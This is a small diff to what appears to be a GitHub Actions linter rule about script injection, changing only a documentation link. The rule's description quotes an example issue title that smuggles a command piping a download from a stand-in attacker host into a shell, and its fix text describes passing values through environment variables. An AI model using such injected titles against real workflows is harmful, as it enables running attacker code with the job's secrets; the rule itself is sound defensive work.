@@ -19,7 +19,7 @@ export const UNTRUSTED_INPUT_IN_RUN: RuleMeta = {
       'names, branch names (`github.head_ref`, `github.event.pull_request.head.ref`), wiki page names and discussion ' +
       'texts are written by whoever opens the issue, pushes the branch or posts the comment: a title such as ' +
       '`x"; curl https://evil.example/x | sh #` runs in the job, with its token and secrets. GitHub calls this script ' +
-      'injection (https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks).',
+      'injection (https://docs.github.com/en/actions/concepts/security/script-injections).',
     fix:
       'Pass the value through an environment variable and quote it in the script: `env: TITLE: ${{ github.event.issue.title }}` ' +
       'on the step, `echo "$TITLE"` in `run:`. The shell then sees a variable, never code.',
